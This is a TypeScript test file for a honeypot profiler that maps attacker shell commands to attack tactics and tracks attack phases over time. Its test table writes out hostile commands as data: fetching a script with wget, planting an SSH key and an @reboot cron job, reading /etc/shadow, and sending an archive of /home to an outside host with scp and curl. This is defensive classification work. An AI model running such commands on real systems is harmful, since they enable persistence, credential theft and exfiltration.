// Tactic mapping, first/last per tactic, transitions, histogram and first appearances.
import { describe, expect, it } from 'vitest';
import { PhaseTracker, tacticOf, tacticOfCommand } from '../../../src/profiler/phases.js';
import type { ProfilerEvent } from '../../../src/profiler/types.js';

const ev = (ts: number, over: Partial<ProfilerEvent>): ProfilerEvent => ({
  ts,
  src_ip: '192.0.2.7',
  kind: 'other',
  source: 'honeypot',
  event_type: 'x',
  ...over,
});

describe('tacticOfCommand', () => {
  it.each([
    ['uname -a', 'discovery'],
    ['cat /proc/cpuinfo | grep name', 'discovery'],
    ['wget http://203.0.113.9/x.sh', 'command_and_control'],
    ['echo ssh-rsa AAAA >> ~/.ssh/authorized_keys', 'persistence'],
    ['(crontab -l; echo "@reboot /tmp/x") | crontab -', 'persistence'],
    ['cat /etc/shadow', 'collection'],
    ['tar czf /tmp/h.tgz /home', 'collection'],
    ['scp /tmp/h.tgz u@203.0.113.9:/x', 'exfiltration'],
    ['curl -T /tmp/h.tgz ftp://203.0.113.9/', 'exfiltration'],
    ['chmod +x x.sh', 'execution'],
    ['./x.sh', 'execution'],
  ])('%s → %s', (cmd, tactic) => {
    expect(tacticOfCommand(cmd)).toBe(tactic);
  });
});

describe('tacticOf', () => {
  it('maps kinds', () => {
    expect(tacticOf(ev(0, { kind: 'connection' }))).toBe('recon');
    expect(tacticOf(ev(0, { kind: 'scan_summary' }))).toBe('recon');
    expect(tacticOf(ev(0, { kind: 'auth' }))).toBe('credential_access');
    expect(tacticOf(ev(0, { kind: 'command' }))).toBe('execution');
    expect(tacticOf(ev(0, { kind: 'download' }))).toBe('command_and_control');
    expect(tacticOf(ev(0, { kind: 'upload' }))).toBe('exfiltration');
    expect(tacticOf(ev(0, { kind: 'other' }))).toBeNull();
  });
});

describe('PhaseTracker', () => {
  it('first/last per tactic survives a late re-scan, and transitions are ordered', () => {
    const p = new PhaseTracker();
    p.add(ev(3600, { kind: 'connection', service: 'ssh', dst_ip: '198.18.0.2' }));
    p.add(ev(3610, { kind: 'auth', service: 'ssh', dst_ip: '198.18.0.2', tool: 'hydra' }));
    p.add(ev(3620, { kind: 'auth', service: 'ssh', dst_ip: '198.18.0.2' }));
    p.add(ev(3630, { kind: 'command', command: 'uname -a', service: 'ssh', dst_ip: '198.18.0.2' }));
    p.add(ev(3640, { kind: 'command', command: 'wget http://x/y', service: 'ssh', dst_ip: '198.18.0.2' }));
    p.add(ev(7300, { kind: 'connection', service: 'http', dst_ip: '198.18.0.3', tool: 'nmap' }));
    const s = p.summary();
    expect(s.tactics.recon).toEqual({ first_ts: 3600, last_ts: 7300, count: 2 });
    expect(s.tactics.credential_access).toEqual({ first_ts: 3610, last_ts: 3620, count: 2 });
    expect(s.order).toEqual(['recon', 'credential_access', 'discovery', 'command_and_control']);
    expect(s.transitions.map((t) => `${t.from}>${t.to}`)).toEqual([
      'recon>credential_access',
      'credential_access>discovery',
      'discovery>command_and_control',
      'command_and_control>recon',
    ]);
    expect(s.hourly[1]).toBe(5);
    expect(s.hourly[2]).toBe(1);
    expect(s.services.map((x) => x.service)).toEqual(['ssh', 'http']);
    expect(s.honeypots.map((x) => x.dst_ip)).toEqual(['198.18.0.2', '198.18.0.3']);
    expect(s.tools).toEqual([
      { tool: 'hydra', first_ts: 3610 },
      { tool: 'nmap', first_ts: 7300 },
    ]);
  });
  it('an earlier event moves a first appearance back; negative times still land in the histogram', () => {
    const p = new PhaseTracker();
    p.add(ev(100, { kind: 'auth', service: 'ssh' }));
    p.add(ev(50, { kind: 'auth', service: 'ssh' }));
    p.add(ev(-1, { kind: 'connection' }));
    const s = p.summary();
    expect(s.tactics.credential_access!.first_ts).toBe(50);
    expect(s.services[0]!.first_ts).toBe(50);
    expect(s.hourly[23]).toBe(1);
  });
});
